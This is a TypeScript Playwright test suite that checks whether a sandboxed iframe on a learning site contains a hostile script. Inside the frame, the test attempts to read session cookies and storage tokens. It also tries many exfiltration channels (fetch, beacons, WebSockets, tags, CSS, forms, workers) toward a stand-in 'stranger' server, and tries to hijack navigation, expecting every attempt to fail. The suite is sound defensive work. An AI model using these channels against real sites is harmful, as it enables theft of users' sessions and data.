import http from 'node:http';
import { type AddressInfo } from 'node:net';
import { type Browser, type Frame, type Page } from 'playwright-core';
import { launchBrowser } from '../scripts/browser.mjs';
import { Academy } from './academy';
import { eventually } from './eventually';

/** Whatever a script in the frame tries, this address is in it. */
const CANARY = 'leaked-by-a-lab';

describe('The frame that labs run in, taken over by a hostile file', () => {
  let academy: Academy;
  let browser: Browser;
  let elsewhere: http.Server;
  let page: Page;
  let frame: Frame;
  /** What reached a server: ours or a stranger's. */
  const arrived: string[] = [];

  beforeAll(async () => {
    elsewhere = http
      .createServer((request, response) => {
        arrived.push(`elsewhere ${request.method} ${request.url}`);
        response.setHeader('Access-Control-Allow-Origin', '*').end('ok');
      })
      .listen(0, '127.0.0.1');
    [academy, browser] = await Promise.all([Academy.start(), launchBrowser()]);
  });
  afterAll(async () => {
    await browser?.close();
    elsewhere?.close();
    await academy?.stop();
  });

  beforeEach(async () => {
    arrived.length = 0;
    page = await browser.newPage();
    page.on('response', (response) => {
      if (response.url().includes(CANARY)) arrived.push(`academy ${response.url()}`);
    });
    await page.goto(`${academy.url}/login`);
    await page.evaluate(() => {
      localStorage.setItem('token', 'the learner’s session');
      document.cookie = 'secret=1; path=/';
      const frame = document.createElement('iframe');
      frame.sandbox.add('allow-scripts');
      frame.src = '/frames/lab-terminal.html';
      document.body.append(frame);
      const heard = Object.assign(window, { heard: [] as unknown[] }).heard;
      addEventListener('message', ({ origin, data }) => heard.push([origin, data]));
    });
    await page.waitForFunction(() => (window as unknown as { heard: unknown[] }).heard.length > 0);
    frame = page.frames().find((one) => one.url().includes('/frames/'))!;
  });
  afterEach(() => page.close());

  const targets = () => ({
    stranger: `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/${CANARY}`,
    own: `${academy.url}/academy.json?${CANARY}`,
  });

  it('runs its own scripts, and says so from an opaque origin', async () => {
    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([
      ['null', { kind: 'loaded' }],
    ]);
  });

  it('reads no session, cookie, storage or page of the academy', async () => {
    const reached = await frame.evaluate(() => {
      const attempts: Record<string, () => unknown> = {
        cookie: () => document.cookie,
        localStorage: () => localStorage.getItem('token'),
        sessionStorage: () => sessionStorage.length,
        indexedDB: () => indexedDB.open('x'),
        parent: () => parent.document.title,
        top: () => top!.localStorage,
        opener: () => (parent as unknown as { heard: unknown }).heard,
        frameElement: () => window.frameElement!.outerHTML,
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [name];
        } catch {
          return [];
        }
      });
    });
    expect(reached).toEqual([]);
    expect(await frame.evaluate(() => self.origin)).toBe('null');
  });

  it('sends nothing, to the academy or elsewhere', async () => {
    await frame.evaluate(async ({ stranger, own }) => {
      const quietly = async (attempt: () => unknown) => {
        try {
          await attempt();
        } catch {
          // As it should.
        }
      };
      for (const url of [stranger, own]) {
        const add = (tag: string, properties: object) =>
          document.body.append(Object.assign(document.createElement(tag), properties));
        await quietly(() => fetch(url, { mode: 'no-cors' }));
        await quietly(() => fetch(url, { method: 'POST', body: 'x', keepalive: true }));
        await quietly(() => {
          const request = new XMLHttpRequest();
          request.open('GET', url);
          request.send();
        });
        await quietly(() => navigator.sendBeacon(url, 'x'));
        await quietly(() => new WebSocket(url.replace('http', 'ws')));
        await quietly(() => new EventSource(url));
        await quietly(() => add('img', { src: url }));
        await quietly(() => add('script', { src: url }));
        await quietly(() => add('video', { src: url }));
        await quietly(() => add('iframe', { src: url }));
        await quietly(() => add('object', { data: url }));
        for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon'])
          await quietly(() => add('link', { rel, href: url, as: 'image' }));
        await quietly(() => add('div', { style: `background: url(${url})` }));
        await quietly(() =>
          add('style', { textContent: `@import url(${url}); p { background: url(${url}) }` }),
        );
        await quietly(() => {
          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
          document.body.append(form);
          form.submit();
        });
        await quietly(() => import(/* @vite-ignore */ url));
        await quietly(() => window.open(url));
        await quietly(() => {
          const script = `try { importScripts('${url}') } catch {} fetch('${url}').catch(() => 0)`;
          new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
        });
        await quietly(() => navigator.serviceWorker.register(url));
      }
      await new Promise((resolve) => setTimeout(resolve, 1_500));
    }, targets());
    expect(arrived).toEqual([]);
  });

  it('takes neither the window nor the frame to another site', async () => {
    const { stranger } = targets();
    const before = page.url();
    await frame
      .evaluate((url) => {
        for (const act of [
          () => (top!.location.href = url),
          () => (parent.location = url),
          () => window.open(url, '_top'),
          () => {
            const link = Object.assign(document.createElement('a'), { href: url, target: '_top' });
            document.body.append(link);
            link.click();
          },
        ])
          try {
            act();
          } catch {
            // As it should.
          }
        location.href = url;
      }, stranger)
      .catch(() => undefined);
    await page.waitForTimeout(1_500);
    expect(page.url()).toBe(before);
    expect(arrived).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
  });

  it('is in no frame of another site', async () => {
    await page.goto(targets().stranger);
    await page.evaluate(async (src) => {
      const frame = Object.assign(document.createElement('iframe'), { src });
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
    }, `${academy.url}/frames/lab-terminal.html`);
    await eventually(
      () => Promise.resolve(page.frames()[1]?.url() === 'chrome-error://chromewebdata/'),
      'the frame to be refused',
    );
  });
});
